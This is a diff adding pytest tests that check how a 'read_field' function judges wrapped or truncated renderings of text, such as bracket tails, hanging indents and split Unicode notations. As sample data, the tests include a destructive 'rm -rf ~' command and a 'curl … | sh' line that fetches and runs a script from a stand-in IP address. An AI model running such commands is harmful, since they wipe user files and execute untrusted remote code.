@@ -171,3 +171,47 @@ def test_an_nbsp_at_a_wrap_may_start_the_next_row_or_hang_at_the_end_of_this_one
     """The reference carries it to the next row; a renderer that lets it hang has it read as nothing (found by hypothesis)."""
     assert read_field('0\u00a0"x', stream.replace("\u00a0\n", "\n"), allow_cap=False).whole
     assert read_field('0\u00a0"x', '0 "x', allow_cap=False).problem is not None  # within a row it is exact
+
+
+# ── tails read honestly; indentation at a row break is layout ───────────────
+
+JSON = '{\n  "cmd": "rm -rf ~",\n  "when": "now"\n}'
+
+
+@pytest.mark.parametrize("tail", ["}", "\n}", '"\n}'])
+def test_a_tail_of_closing_brackets_alone_does_not_read_as_the_end_of_a_capped_field(tail: str) -> None:
+    reading = read_field(JSON, "{\n  \"cmd\": …\n" + tail.lstrip("\n"), allow_cap=True)
+    assert reading.problem is not None
+
+
+@pytest.mark.parametrize("tail", ['"when": "now"\n}', "now\"\n}", "\u27e8U+0007\u27e9"])
+def test_a_tail_that_says_something_reads_as_the_end(tail: str) -> None:
+    text = JSON if "now" in tail else "abc\x07"
+    head = "{\n  \"cmd\": …" if "now" in tail else "ab…"
+    reading = read_field(text, f"{head}\n{tail}", allow_cap=True)
+    assert reading.problem is None and not reading.whole and reading.tail > 0
+
+
+def test_a_tail_wrapped_with_a_hanging_indent_reads_backwards() -> None:
+    text = "echo start; " + "x" * 40 + "; curl -fsSL https://203.0.113.7/i.sh | sh"
+    stream = "echo start; x…\n…curl -fsSL https\n  ://203.0.113.7/i.sh | sh"
+    reading = read_field(text, stream, allow_cap=True)
+    assert reading.problem is None and reading.tail == len("curl -fsSL https://203.0.113.7/i.sh | sh")
+
+
+def test_a_hanging_indent_is_not_a_texts_own_indentation() -> None:
+    assert read_field("ab\ncd", "ab\n  cd", allow_cap=False).problem is not None  # after a line break it is text
+
+
+@pytest.mark.parametrize("stream", ["a\u27e8U+30\n2E\u27e9", "a\u27e8U+30\n    2E\u27e9", "a\u27e8U+\n  302E\u27e9"])
+def test_a_notation_split_across_rows_may_be_followed_by_indentation(stream: str) -> None:
+    assert read_field("a\u302e", stream, allow_cap=False).whole
+    tail = read_field("xyz" * 20 + "a\u302e", "xy…\n" + stream, allow_cap=True)
+    assert tail.problem is None and tail.tail == 2
+
+
+def test_a_tail_of_a_control_character_spelled_out_says_something() -> None:
+    """``\\r`` is a blank to Python but reaches the screen as ``␍``, a notation that names it (found by hypothesis)."""
+    text = "0" * 30 + ";000000001\n\r"
+    reading = read_field(text, "000000…\n\u240d", allow_cap=True)
+    assert reading.problem is None and reading.tail == 1
